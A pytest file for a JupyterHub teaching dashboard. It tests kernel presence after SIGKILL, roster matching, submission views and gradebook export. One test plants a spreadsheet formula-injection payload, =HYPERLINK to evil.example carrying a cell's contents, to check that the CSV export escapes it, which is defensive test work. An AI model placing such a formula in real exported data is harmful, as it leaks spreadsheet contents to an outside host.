"""The dashboard is true about people: who is alive, who is where, what each submission was.

A learner's kernel is a real Python process here (it runs ``course.start`` and a class
worker exactly as a notebook would, on its own ``VALKEY_URL``), killed with SIGKILL as
``kill -9`` does; the class server is the one ``workshop up`` starts.
"""

from __future__ import annotations

import base64
import contextlib
import csv
import http.server
import io
import json
import os
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace

import pytest
from traitlets.config import Config

import echoq
from echoq.teaching import learner, presence, progress
from echoq.teaching.workshop import Workshop, admin, board, hubinfo
from tests.support.helpers import unwrapped, wait_for_server_time

ROOT = Path(__file__).resolve().parents[1]
ROSTER = ["ada", "bob", "Katherine.Johnson@nasa.gov", "josé"]

KERNEL = """
import sys
from echoq.teaching import course, workshop
course.start("02", quiet=True)
workshop.ClassWorker().start()
print("ready", flush=True)
sys.stdin.read()  # a kernel lives until it is killed
"""


@pytest.fixture(scope="module")
def klass(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workshop]:
    folder = tmp_path_factory.mktemp("people") / "class"
    workshop, _ = admin.up(folder, roster=ROSTER, class_name="people")
    yield workshop
    if (folder / admin.STATE_FILE).exists():
        admin.down(folder)


def kernel_of(workshop: Workshop, learner: str, *, code: str = KERNEL) -> subprocess.Popen[str]:
    env = {k: v for k, v in os.environ.items() if k not in ("ECHOQ_WORKSHOP", "JUPYTERHUB_USER")}
    env |= {"VALKEY_URL": workshop.learner_url(learner), "ECHOQ_LEARNER": learner, "ECHOQ_CLASS": "people"}
    process = subprocess.Popen(
        [sys.executable, "-c", code], env=env, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
    )
    assert process.stdout is not None and process.stdout.readline().strip() == "ready"
    return process


def views_of(workshop: Workshop) -> dict[str, board.LearnerView]:
    data = board.Board(workshop.instructor(), list(workshop.learners), class_name="people").read()
    return {lv.learner: lv for lv in data.learners}


def test_a_kernel_killed_with_sigkill_shows_as_not_alive_within_seconds_and_is_never_ordered(klass) -> None:
    from echoq.teaching.workshop import views

    ada = kernel_of(klass, "ada")
    try:
        shown = views_of(klass)
        assert shown["ada"].kernel == "alive" and shown["ada"].worker == "running"
        assert shown["ada"].record.current == "02" and shown["ada"].record.connected_ms > 0
        assert shown["bob"].kernel == "never connected"
        dash = views.Dashboard.for_workshop(klass, auto=False)
        try:
            assert dash.running() == ["ada"]
            os.kill(ada.pid, signal.SIGKILL)
            ada.wait()
            killed = time.monotonic()
            while (lv := views_of(klass)["ada"]).kernel == "alive":
                assert time.monotonic() - killed < presence.TTL_MS / 1000 + 5, "the dead kernel still shows alive"
                time.sleep(0.05)
            assert lv.kernel == "gone" and lv.worker == "gone"  # the worker never said goodbye: no presence
            assert dash.running() == []
            assert dash.kill_random() == "No running worker to kill."
            html = board.render(dash.refresh())
            assert "not alive" in html and "gone (its kernel is not alive)" in html
        finally:
            dash.close()
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.kill(ada.pid, signal.SIGKILL)
        ada.wait()


@pytest.mark.server
def test_after_down_the_learners_next_cell_says_in_one_line_the_class_server_is_gone(
    tmp_path: Path, monkeypatch, capsys
) -> None:
    folder = tmp_path / "ending"
    workshop, _ = admin.up(folder, count=1, class_name="ending")
    monkeypatch.setattr(presence, "GONE_S", 0.5)
    pulse = presence.start(echoq.connect(workshop.learner_url("learner-01")), learner="learner-01")
    try:
        assert pulse is not None and workshop.instructor().exists(presence.alive_key("learner-01"))
        admin.down(folder)
        deadline = time.monotonic() + 15
        while pulse.gone is None:
            assert time.monotonic() < deadline, "the presence never noticed the class server was gone"
            time.sleep(0.05)
        pulse.on_cell()  # the learner runs a cell
        pulse.on_cell()  # and another: told once
        said = capsys.readouterr().out
        assert said.count("echoq: the class server") == 1 and said.count("\n") == 1, said
        assert "is gone" in said and "%env VALKEY_URL=" in said
    finally:
        pulse.stop()


def test_an_untouched_exercise_of_a_reached_lesson_is_not_started_and_a_pass_keeps_its_history(
    klass, monkeypatch
) -> None:
    bob = echoq.connect(klass.learner_url("bob"))
    monkeypatch.setenv("ECHOQ_LEARNER", "bob")
    monkeypatch.delenv("VALKEY_URL", raising=False)  # no presence thread in this test process
    progress.record_lesson(bob, "03")
    for miss in ("code-error", "code-error", "deadline-in-the-past"):
        progress.record_check(bob, "03", "charge", False, miss, code=f"-- try {miss}")
    progress.record_check(bob, "03", "charge", True, None, code="-- right")
    lv = views_of(klass)["bob"]
    checks = {c.exercise: c for c in board.checks_with_not_started(lv)}
    assert checks["complete"].status == "not started"  # lesson 03's other exercise, no submission
    assert checks["charge"].status == "passed after 4 tries: code-error x2, deadline-in-the-past"
    html = unwrapped(board.render(views_of_data(klass)))
    assert "passed after 4 tries: code-error x2, deadline-in-the-past" in html
    assert "03 complete: <span class='muted'>not started</span>" in html
    steps = {(s.lesson, s.exercise): s for s in board.where_the_class_is(views_of_data(klass))}
    assert "bob" in steps[("03", "complete")].not_started and "bob" not in steps[("03", "complete")].stuck


def views_of_data(workshop: Workshop) -> board.BoardData:
    return board.Board(workshop.instructor(), list(workshop.learners), class_name="people").read()


def test_a_roster_name_with_capitals_is_matched_as_the_hub_lowercases_it(klass) -> None:
    from jupyterhub.auth import Authenticator

    logged_in = Authenticator().normalize_username("Katherine.Johnson@nasa.gov")  # what the hub runs her as
    (katherine,) = [ln for ln in klass.learners.values() if ln.hub_user.startswith("katherine")]
    assert katherine.hub_user == logged_in
    text = (klass.dir / admin.HUB_SNIPPET).read_text()
    c = Config()
    exec(compile(text, admin.HUB_SNIPPET, "exec"), {"c": c})
    environment = c.Spawner.environment.get_value({})
    spawner = SimpleNamespace(user=SimpleNamespace(name=logged_in))
    assert environment["ECHOQ_LEARNER"](spawner) == katherine.id
    assert environment["VALKEY_URL"](spawner) == klass.learner_url(katherine.id)


def test_the_board_says_whose_server_runs_and_who_is_on_the_hub_but_not_the_roster(klass) -> None:
    users = [
        {"name": "ada", "servers": {"": {"ready": True}}},
        {"name": "bob", "servers": {}, "last_activity": "2026-05-04T12:00:00Z"},  # logged in once, server stopped
        {"name": "katherine.johnson@nasa.gov", "servers": {"": {"ready": True}}},  # logged in, no lesson yet
        {"name": "josé", "servers": {}, "last_activity": None},  # made by the hub at its start: never logged in
        {"name": "stranger", "servers": {"": {"ready": True}}},
    ]
    seen_tokens = []

    class Api(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 (http.server's name)
            seen_tokens.append(self.headers.get("Authorization"))
            body = json.dumps(users).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Api)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        hub = hubinfo.HubView(f"http://127.0.0.1:{server.server_port}/hub/api", "secret-token")
        hub_users = {lid: ln.hub_user for lid, ln in klass.learners.items()}
        names = {lid: ln.display for lid, ln in klass.learners.items()}
        data = board.Board(
            klass.instructor(), list(klass.learners), class_name="people", hub_users=hub_users, hub=hub, names=names
        ).read()
        shown = {lv.learner: lv for lv in data.learners}
        katherine, jose = learner.from_hub_user(ROSTER[2]), learner.from_hub_user("josé")
        assert shown["ada"].server == "running" and shown["bob"].server == "stopped"
        assert board.doing(shown[katherine]) == "logged in, no lesson yet"
        assert board.doing(shown[jose]) == "never logged in"
        assert board.doing(shown["bob"]) != "never logged in"  # he did, once: his server stopped since
        assert shown[jose].link == "/user/jos%C3%A9/lab" and shown[jose].shown == "josé" != jose
        assert data.strangers == ["stranger"] and seen_tokens == ["token secret-token"]
        html = board.render(data)
        assert "not on the roster" in html and "stranger" in html
        assert "never logged in" in html and "logged in, no lesson yet" in html and "working alone" not in html
        # Each row by the roster's name, the id small beside it, and a link to their server.
        assert "<b><span class='w'>Katherine.Johnson@nasa.gov</span></b>" in html  # as the roster wrote it
        assert f"<span class='id'><span class='w'>{jose}</span></span>" in html and "href='/user/jos%C3%A9/lab'" in html
    finally:
        server.shutdown()


def test_a_hub_user_left_off_the_roster_is_told_in_one_line_they_work_alone(monkeypatch, capsys) -> None:
    # What the hub snippet gives a user not on the roster: ECHOQ_CLASS, and an empty VALKEY_URL.
    monkeypatch.setenv("ECHOQ_CLASS", "people")
    monkeypatch.setenv("VALKEY_URL", "")
    monkeypatch.setenv("JUPYTERHUB_USER", "dorothy.vaughan")
    monkeypatch.delenv("ECHOQ_LEARNER", raising=False)
    monkeypatch.setattr(presence, "_warned", False)
    assert presence.start(None) is None  # type: ignore[arg-type]  (no server is reached)
    assert presence.start(None) is None  # type: ignore[arg-type]
    said = capsys.readouterr().out
    assert said.count("\n") == 1 and "working alone" in said and "'dorothy.vaughan'" in said, said


HOSTILE_CODE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_every_submission_is_one_click_from_its_code_and_the_gradebook_is_the_commands_file(klass, monkeypatch) -> None:
    from echoq.teaching.workshop import views

    ada = echoq.connect(klass.learner_url("ada"))
    monkeypatch.setenv("ECHOQ_LEARNER", "ada")
    monkeypatch.delenv("VALKEY_URL", raising=False)
    progress.record_lesson(ada, "02")
    progress.record_check(ada, "02", "claim", False, "deadline-in-the-past", code="return '<b>not bold</b>'")
    progress.record_check(ada, "02", "claim", True, None, code="-- the right script")
    progress.record_check(ada, "03", "complete", False, "not-yet", code=HOSTILE_CODE)
    dash = views.Dashboard.for_workshop(klass, auto=False)
    try:
        dash.submission_learner.value = "ada"
        dash.submission_exercise.value = ("02", "claim")
        shown = dash.submissions_view.value
        assert "#1 at " in shown and "#2 at " in shown and "deadline-in-the-past" in shown
        assert "<details><summary>code</summary>" in shown and "&lt;b&gt;not bold&lt;/b&gt;" in shown
        assert "<b>not bold</b>" not in shown  # the learner's text is escaped, never markup
        dash.submission_learner.value = "bob"
        dash.submission_exercise.value = ("01", "lost")
        assert "not started" in dash.submissions_view.value
        dash._act(dash.export_gradebook)
        links = dash.gradebook_view.value
        assert "download='echoq-gradebook.csv'" in links and "download='echoq-gradebook.json'" in links
        from_page = [base64.b64decode(part.split("'", 1)[0]).decode() for part in links.split("base64,")[1:]]
    finally:
        dash.close()
    out = Path(klass.dir)
    done = subprocess.run(
        [sys.executable, "-m", "echoq.teaching", "workshop", "export", "--dir", str(out),
         "--csv", str(out / "gradebook.csv"), "--json", str(out / "gradebook.json")],
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert done.returncode == 0 and done.stdout.count("written to") == 2, done.stderr
    files = [(out / f"gradebook.{kind}").read_bytes().decode() for kind in ("csv", "json")]
    assert files == from_page  # the page's two links and the command give the same two files
    assert all((out / f"gradebook.{kind}").stat().st_mode & 0o777 == 0o600 for kind in ("csv", "json"))
    rows = list(csv.DictReader(io.StringIO(files[0], newline="")))
    exercises = board.exercises_of()
    assert len(rows) == len(klass.learners) * len(exercises)  # every roster learner x every exercise
    jose = [r for r in rows if r["name"] == "josé"]  # never ran a check: in the gradebook all the same
    assert len(jose) == len(exercises) and {(r["status"], r["tries"]) for r in jose} == {("not started", "0")}
    claim = next(r for r in rows if r["learner"] == "ada" and r["exercise"] == "claim")
    assert (claim["status"], claim["tries"], claim["misconceptions"]) == ("passed", "2", "deadline-in-the-past x1")
    assert claim["first_pass"][:4].isdigit() and claim["first_pass"][19] in "+-"  # local time, offset said
    assert claim["last_code"] == "'-- the right script"  # a cell starting with '-' is not a formula any more
    hostile = next(r for r in rows if r["learner"] == "ada" and r["exercise"] == "complete")
    assert hostile["last_code"] == "'" + HOSTILE_CODE  # shown as text by a spreadsheet, never run
    assert not [cell for r in rows for cell in r.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    graded = json.loads(files[1])  # the JSON keeps every value as it is
    assert next(r for r in graded if r["learner"] == "ada" and r["exercise"] == "complete")["last_code"] == HOSTILE_CODE
    learners = [r["learner"] for r in rows]
    assert learners == sorted(learners)  # one order: the learner's id, then the course's


def test_class_chaos_ends_cleanly_stop_everyone_then_a_new_round_from_zero(klass) -> None:
    from echoq.teaching.workshop import classroom, views

    workers = {
        name: classroom.ClassWorker(echoq.connect(klass.learner_url(name)), learner=name, klass="people").start()
        for name in ("ada", "bob")
    }
    dash = views.Dashboard.for_workshop(klass, auto=False)
    try:
        dash._act(lambda: dash.produce(40))
        deadline = time.monotonic() + 20
        while sum(w.mine["delivered"] for w in workers.values()) < 4:
            assert time.monotonic() < deadline
            time.sleep(0.02)
        dash._act(dash.new_round)
        assert "New round" in dash.readout.value and "Still running" not in dash.readout.value
        for name, worker in workers.items():
            assert worker.join(10) and worker.state == "stopped" and worker.stopped_by_instructor, name
            assert "stopped by the instructor" in worker.readout()
        sb = classroom.read_scoreboard(klass.instructor(), ["ada", "bob"], klass="people")
        assert (sb.jobs, sb.completed, sb.total.delivered, sb.total.effects) == (0, 0, 0, 0)
        assert sum(sb.counts.values()) == 0 and sb.by_learner["ada"].worker == "stopped"
        assert dash.running() == []
        again = classroom.ClassWorker(echoq.connect(klass.learner_url("ada")), learner="ada", klass="people").start()
        try:
            dash._act(lambda: dash.produce(5))
            deadline = time.monotonic() + 20
            while (sb := classroom.read_scoreboard(klass.instructor(), ["ada"], klass="people")).completed < 5:
                assert time.monotonic() < deadline, sb
                time.sleep(0.05)
            assert sb.jobs == 5 and sb.ok and sb.by_learner["ada"].worker == "running"
        finally:
            again.stop()
    finally:
        for worker in workers.values():
            worker.stop()
        dash.close()


def test_run_all_on_class_chaos_in_a_workshop_stops_before_a_second_worker(monkeypatch) -> None:
    from echoq.teaching.workshop import views

    monkeypatch.setenv("ECHOQ_CLASS", "people")
    monkeypatch.setenv("VALKEY_URL", "redis://127.0.0.1:1/0")  # never reached: the check comes first
    with pytest.raises(echoq.EchoqError, match="for learners alone") as caught:
        views.practice_alone()
    assert "\n" not in str(caught.value)
    import nbformat

    cells = [
        c.source for c in nbformat.read(ROOT / "notebooks" / "class_chaos.ipynb", 4).cells if c.cell_type == "code"
    ]
    stopper = next(n for n, c in enumerate(cells) if "practice_alone()" in c)
    # Nothing before that check starts a second worker or produces: Run All stops at it.
    assert not any("ClassWorker(" in c or "produce(" in c for c in cells[:stopper])
    assert cells[stopper].index("practice_alone()") < cells[stopper].index("ClassWorker(")


def test_practising_alone_stops_the_worker_the_first_cell_started(monkeypatch, valkey_client) -> None:
    from echoq.teaching.workshop import classroom, views

    monkeypatch.delenv("ECHOQ_CLASS", raising=False)
    first = classroom.ClassWorker(valkey_client, learner="solo", klass="practice").start()
    monkeypatch.setattr(views, "_current", first)
    try:
        views.practice_alone()
        assert first.state == "stopped"  # no hidden second worker beside the practice's own
    finally:
        first.stop()
        classroom.new_round(valkey_client, klass="practice")


@pytest.mark.server
def test_the_guides_commands_name_the_venv_interpreter_and_exist() -> None:
    text = (ROOT / "docs" / "WORKSHOP.md").read_text()
    blocks = [b.split("```", 1)[0] for b in text.split("```bash")[1:]]
    commands = [ln.strip() for b in blocks for ln in b.splitlines() if "-m echoq.teaching workshop" in ln]
    plain = [c for c in commands if c.startswith("python ")]
    assert plain == [], plain  # a plain `python` has no echoq: ModuleNotFoundError
    actions = {
        c.split("-m echoq.teaching workshop ", 1)[1].split()[0] for c in commands if c.startswith(".venv/bin/python")
    }
    assert {"up", "export", "down"} <= actions, actions
    for action in sorted(actions | {"hub", "status"}):
        done = subprocess.run(
            [sys.executable, "-m", "echoq.teaching", "workshop", action, "--help"],
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert done.returncode == 0, (action, done.stderr)
    makefile = (ROOT / "Makefile").read_text()
    assert "\nhub: setup" in makefile and "-m echoq.teaching workshop hub" in makefile and "hub-deps.sh" in makefile


def test_the_presence_records_when_the_kernel_connected_and_every_cell_and_lab_click(klass, monkeypatch) -> None:
    from echoq.teaching.lab.view import LabPanel

    earlier = presence.running("bob")  # a class worker's test started one in this process: a new kernel has none
    if earlier is not None:
        earlier.stop()
        monkeypatch.delitem(presence._pulses, "bob")
    klass.instructor().hdel(progress.key("bob"), "active")
    pulse = presence.start(echoq.connect(klass.learner_url("bob")), lesson="04", learner="bob")
    try:
        assert pulse is not None
        record = progress.read(klass.instructor(), "bob")
        assert record.connected_ms > 0 and record.active_ms > 0  # a new kernel's first cell counts
        alive = presence.parse(klass.instructor().get(presence.alive_key("bob")))
        assert alive is not None and alive.pid == os.getpid() and alive.lesson == "04"
        assert 0 < klass.instructor().pttl(presence.alive_key("bob")) <= presence.TTL_MS
        for act in (pulse.on_cell, lambda: LabPanel._clicked(lambda: None)):  # a cell run, then a lab click
            before = progress.read(klass.instructor(), "bob").active_ms
            wait_for_server_time(klass.instructor(), before + 1)
            act()
            deadline = time.monotonic() + 10
            while progress.read(klass.instructor(), "bob").active_ms == before:
                assert time.monotonic() < deadline, f"{act} never moved the last activity"
                time.sleep(0.05)
    finally:
        pulse.stop()
    assert not klass.instructor().exists(presence.alive_key("bob"))  # a clean end takes the key at once


def test_a_running_workers_readout_redraws_a_note_that_shows_only_when_updates_stop(klass) -> None:
    from echoq.teaching.workshop import classroom, views

    worker = classroom.ClassWorker(echoq.connect(klass.learner_url("ada")), learner="ada", klass="people").start()
    panel = views.ClassWorkerPanel(worker, refresh_s=0.05)
    try:
        first = panel.readout.value
        assert "Worker of ada running" in first and "visibility:hidden" in first and "the line above is old" in first
        deadline = time.monotonic() + 10
        while panel.readout.value == first:  # each update is a new value: the browser redraws the note
            assert time.monotonic() < deadline
            time.sleep(0.02)
    finally:
        worker.stop()
    deadline = time.monotonic() + 10
    while "is old" in panel.readout.value:  # a final state is not stale: no note
        assert time.monotonic() < deadline, panel.readout.value
        time.sleep(0.02)
    assert "stopped" in panel.readout.value


# Last in the file: it leaves a kill order and a learner connected.
KATHERINE = learner.from_hub_user(ROSTER[2])


LESSON_KERNEL = """
import sys
from echoq.teaching import course
course.start("02", quiet=True)
print("ready", flush=True)
sys.stdin.read()
"""


def test_a_sigkilled_class_chaos_kernel_is_gone_within_3_s_while_another_kernel_of_hers_lives(klass) -> None:
    from echoq.teaching.workshop import classroom, views

    lesson = kernel_of(klass, KATHERINE, code=LESSON_KERNEL)
    chaos, other = kernel_of(klass, KATHERINE), kernel_of(klass, "ada")
    dash = views.Dashboard.for_workshop(klass, auto=False)
    try:
        assert {"ada", KATHERINE} <= set(dash.running())
        os.kill(chaos.pid, signal.SIGKILL)
        chaos.wait()
        killed = time.monotonic()
        while (lv := views_of(klass)[KATHERINE]).worker != "gone":
            assert time.monotonic() - killed < 3.0, f"Katherine's dead worker still shows {lv.worker!r}"
            time.sleep(0.05)
        assert lv.kernel == "alive"  # her lesson kernel still pulses: only the worker is gone
        assert lv.worker_until_ms is not None and lv.worker_until_ms <= lv.now_ms
        assert KATHERINE not in dash.running() and "ada" in dash.running()
        assert dash.kill_random().startswith("Kill ordered for ada:")  # the one live worker, never Katherine's dead one
        key = classroom.worker_pulse_key(KATHERINE)
        assert klass.instructor().zcard(key) >= 1 and klass.instructor().pttl(key) > 0  # bounded, expiring
    finally:
        dash.close()
        for process in (lesson, chaos, other):
            with contextlib.suppress(ProcessLookupError):
                os.kill(process.pid, signal.SIGKILL)
            process.wait()
